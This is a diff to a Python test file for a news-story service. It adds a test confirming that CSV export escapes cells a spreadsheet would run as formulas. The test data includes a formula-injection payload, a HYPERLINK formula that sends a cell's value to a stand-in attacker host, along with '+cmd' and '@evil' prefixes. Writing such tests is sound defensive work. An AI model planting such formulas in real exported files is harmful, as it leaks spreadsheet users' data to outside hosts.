@@ -189,3 +189,16 @@ def test_stories_take_text_and_min_size_as_the_cli_does(served):
     assert set(ids(min_size=2)) == {story_id for story_id, size in sizes.items() if size >= 2} != set(sizes)
     both = served.client.get("/api/stories", params={"q": "هلسنكي", "text": "Milley"})
     assert both.status_code == 422 and "not both" in both.json()["detail"]
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
+    from marsad.store.export import export_chunks
+
+    records = [{"id": "s1", "headline": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "size": 2, "outlets": ["@evil", "reuters.com"]},
+               {"id": "s2", "headline": "رئيسا الأركان يجتمعان في هلسنكي", "size": 1, "outlets": ["+cmd"]}]
+    text = b"".join(export_chunks("csv", records, ["id", "headline", "size", "outlets"])).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["headline"] == "'" + records[0]["headline"] and rows[0]["outlets"] == "'@evil; reuters.com"
+    assert rows[1]["headline"] == records[1]["headline"] and rows[1]["outlets"] == "'+cmd" and rows[0]["size"] == "2"
+    # JSON Lines keep the value as it is: no spreadsheet reads them.
+    assert json.loads(b"".join(export_chunks("jsonl", records[:1], ["headline"])))["headline"] == records[0]["headline"]
